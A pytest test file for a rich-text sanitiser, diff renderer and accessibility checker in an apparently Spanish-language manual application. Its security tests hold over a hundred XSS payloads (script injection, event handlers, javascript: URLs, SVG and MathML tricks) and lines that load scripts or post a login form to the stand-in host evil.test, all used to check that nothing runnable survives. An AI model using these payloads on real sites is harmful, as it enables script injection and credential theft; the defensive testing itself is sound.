"""Rich text: what never survives, whatever is typed (S33), and what it becomes."""

import re
from html import unescape

import pytest

from apps.core.richtext import sanitise
from apps.documents.differences import changed_text, changed_words
from apps.documents.markup import faults_of, fitted, parse, print_blocks, to_html

PICTURE = "/manual/imagenes/5f0c1c1e-2b5c-4a52-9d35-0c7c2b5c4a52/"

RUN = "alert(1)"
EVENTS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "onchange", "oninput",
    "onsubmit", "onkeydown", "ontoggle", "onanimationstart", "onanimationend", "onbegin",
    "onwheel", "onpointerenter", "onscroll", "oncopy", "onpaste", "oncut", "ondrag", "onplay",
    "onbeforetoggle", "onhashchange", "onmessage", "onpageshow", "onresize", "onstorage",
)  # fmt: skip
SCHEMES = (
    "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:",
    "\x01javascript:",
    "javascript&colon;", "&#106;avascript:", "&#x6A;avascript:", "vbscript:", "data:text/html,",
    "data:image/svg+xml,", "livescript:", "mocha:", "jar:", "feed:javascript:", "view-source:",
    "file:///", "blob:", "intent:",
)  # fmt: skip
TAGS = (
    "script", "style", "iframe", "object", "embed", "applet", "form", "input", "button", "textarea",
    "select", "link", "meta", "base", "svg", "math", "video", "audio", "frameset", "frame",
    "template", "noscript", "xmp", "plaintext", "marquee", "keygen", "isindex", "portal", "slot",
    "dialog", "details",
)  # fmt: skip
WHOLE = (
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script/x>alert(1)</script\n>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    '<img """><script>alert(1)</script>">',
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math href=javascript:alert(1)>x</math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="position:fixed;inset:0">x</p>',
    "<style>@import '//evil.test/x.css';</style>",
    '<link rel=stylesheet href="//evil.test/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="//evil.test/">',
    '<form action="//evil.test/"><input name=clave><button>Entrar</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<isindex action="javascript:alert(1)" type=image>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<img src=x:x onerror=alert(1)//",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<a href='x' onclick='alert(1)'>x</a>",
    "<img src='/\t/evil.test/x.png'>",
    "<a\x00 href=javascript:alert(1)>x</a>",
    "<a href=javas\x00cript:alert(1)>x</a>",
    "<img src=//evil.test/x.png>",
    "<img src=https://evil.test/x.png>",
    "<img src='/\\evil.test/x.png' onerror=alert(1)>",
    '<p id="contenido" class="topbar" data-tree="/x/" hx-get="/x/">x</p>',
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    '<div contenteditable autofocus onfocus="alert(1)">x</div>',
    '<a href="https://a.co" target=_blank ping=//evil.test/>x</a>',
    "{{ 7|add:7 }}{% load x %}<script>alert(1)</script>",
    "‮<script>alert(1)</script>",
)
PAYLOADS = (
    *WHOLE,
    *(f"<img src=x {event}={RUN}>" for event in EVENTS),
    *(f'<a href="{scheme}{RUN}">x</a>' for scheme in SCHEMES),
    *(f"<{tag} {EVENTS[0]}={RUN} src=//evil.test/ href=//evil.test/>x</{tag}>" for tag in TAGS),
)
KEPT = re.compile(r"<\s*(/?)\s*([a-zA-Z0-9]+)([^>]*)>")
TAGS_KEPT = {
    "a", "b", "blockquote", "br", "caption", "code", "dd", "dl", "dt", "em", "figcaption",
    "figure", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "li", "ol", "p", "s", "strong",
    "sub", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul",
}  # fmt: skip
ATTRIBUTES_KEPT = {"href", "title", "src", "alt", "width", "height", "scope", "colspan", "rowspan",
                   "start", "rel"}  # fmt: skip


def harmless(html: str, *, also: frozenset[str] = frozenset()) -> None:
    """Fail unless `html` holds only known tags, known attributes and addresses that run nothing."""
    for _slash, tag, rest in KEPT.findall(html):
        assert tag.lower() in TAGS_KEPT | also, tag
        for name, value in re.findall(r"([^\s=\"'/]+)\s*=\s*\"([^\"]*)\"", rest):
            assert name.lower() in ATTRIBUTES_KEPT | ({"class", "aria-hidden"} if also else set())
            if name.lower() in ("href", "src"):
                target = re.sub(r"[\x00-\x20]", "", unescape(value)).lower()
                assert re.match(r"(https?://|mailto:|tel:|/(?!/)|#|[\w./-]*$)", target), target
                if name.lower() == "src":
                    assert target.startswith("/")
                    assert not target.startswith(("//", "/\\"))


def test_s33_there_are_enough_payloads():
    assert len(set(PAYLOADS)) >= 100


@pytest.mark.parametrize("payload", PAYLOADS)
def test_s33_nothing_that_runs_survives(payload):
    for markup in (payload, f"<p>Antes {payload} después</p>", f"<ul><li>{payload}</ul>"):
        clean = sanitise(markup)
        harmless(clean)
        assert sanitise(clean) == clean
        harmless(to_html(fitted(parse(markup), 4)))
        marks = frozenset({"ins", "del", "span"})
        for html in (
            changed_text("", markup),
            changed_text(markup, ""),
            changed_text("<p>Antes.</p>", markup, signs=True),
            changed_words("", markup),
        ):
            harmless(html, also=marks)
        print_blocks(markup)


def test_s33_a_stored_payload_reaches_no_page(press, signed, agent):
    whole = "".join(WHOLE)
    press.page(
        "ATC-01.1",
        steps=[press.step("uno", whole, title="<b>t</b><script>x</script>", tool="<i onclick=x>")],
        body=whole,
        example=whole,
        notes=whole,
        scope="<script>alert(1)</script>",
    )
    client = signed(agent)
    for url in ("/manual/ATC-01.1/", "/manual/ATC-01.1/imprimir/"):
        html = client.get(url).content.decode()
        article = html[html.index("<article") : html.index("</article")]
        for bad in (
            "<script",
            "onerror=",
            "onload=",
            "javascript:alert",
            "<form",
            "style=",
            "<iframe",
        ):
            assert f"{bad}" not in re.sub(r"&lt;.*?(&gt;|$)", "", article, flags=re.S), bad
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in article


@pytest.mark.parametrize(
    "text",
    [
        "<p>Uno <strong>dos</strong></p>",
        '<p><a href="https://a.co/">x</a></p>',
        '<p><a href="/manual/ATC-01/">x</a></p>',
        "<ul><li>a<ul><li>b</li></ul></li></ul>",
        '<table><thead><tr><th scope="col">a</th></tr></thead></table>',
        f'<p><img src="{PICTURE}" alt="Un medidor"></p>',
    ],
)
def test_what_a_document_needs_stays(text):
    assert re.sub(' rel="noopener noreferrer"', "", sanitise(text)) == text


# Differences ------------------------------------------------------------------------------------


def plain(html: str) -> str:
    html = re.sub(r'<span class="(visually-hidden|sign)"[^>]*>[^<]*</span>', "", html)
    return (
        html.replace("<ins>", "[+")
        .replace("</ins>", "]")
        .replace("<del>", "[-")
        .replace("</del>", "]")
    )


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("<p>a b c</p>", "<p>a x c</p>", "<p>a [-b] [+x] c</p>"),
        ("<p>a b</p>", "<p>a b</p><p>c</p>", "<p>a b</p><p>[+c]</p>"),
        ("<p>a b</p><p>c d</p>", "<p>c d</p>", "<p>[-a b]</p><p>c d</p>"),
        (
            "<ul><li>a</li></ul>",
            "<ul><li>a</li><li>b</li></ul>",
            "<ul><li>a</li><li>[+b]</li></ul>",
        ),
        ("<p>a <b>b</b> c</p>", "<p>a <b>x</b> c</p>", "<p>a [-<b>b</b>] [+<b>x</b>] c</p>"),
        ("<p>x</p>", "<h3>y z</h3>", "<p>[-x]</p><h2>[+y z]</h2>"),
        ("", "<hr>", "<hr>"),
        ("<p>1 &lt; 2</p>", "<p>1 &lt; 3</p>", "<p>1 &lt; [-2] [+3]</p>"),
    ],
)
def test_m10_rich_text_is_compared_by_block_and_word(old, new, expected):
    assert plain(changed_text(old, new)) == expected


def test_m10_changes_with_a_blank_between_them_are_told_as_one():
    assert plain(changed_words("quedan dos días", "quedan cinco horas")) == (
        "quedan [-dos días] [+cinco horas]"
    )


def test_m10_a_table_is_compared_by_cell():
    row = "<table><tbody><tr><td>Peligro</td><td>{} hora</td></tr></tbody></table>"
    assert plain(changed_text(row.format(1), row.format(2))) == (
        "<table><tbody><tr><td>Peligro</td><td>[-1] [+2] hora</td></tr></tbody></table>"
    )


def test_m10_a_very_long_text_is_compared_in_bounded_time():
    old = "<p>" + "palabra " * 6000 + "</p>"
    html = changed_text(old, old.replace("palabra", "otra", 1))
    assert "<del>" in html


# Accessibility ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("markup", "faults"),
    [
        ("<h2>a</h2><h3>b</h3><h2>c</h2>", 0),
        ("<h2>a</h2><h4>b</h4>", 1),
        ("<h3>a</h3>", 0),
        ("<h2> </h2>", 1),
        (f'<p><img src="{PICTURE}"></p>', 1),
        (f'<p><img src="{PICTURE}" alt=" "></p>', 1),
        (
            f'<p><img src="{PICTURE}" alt="Un medidor"></p>',
            0,
        ),
    ],
)
def test_m25_what_is_not_accessible_is_named(markup, faults):
    assert len(faults_of(markup)) == faults


def test_a_printed_table_knows_its_columns():
    markup = (
        '<table><tr><td colspan="2">a</td><td>b</td></tr><tr><td colspan="x">c</td></tr></table>'
    )
    table = print_blocks(markup)[0]
    assert table["columns"] == 3
    assert [cell["span"] for cell in table["rows"][0]] == [2, 1]


def test_loose_words_become_paragraphs():
    blocks = print_blocks("hola <b>tú</b><ul><li>x</li></ul>adiós")
    assert [block["tag"] for block in blocks] == ["p", "ul", "p"]
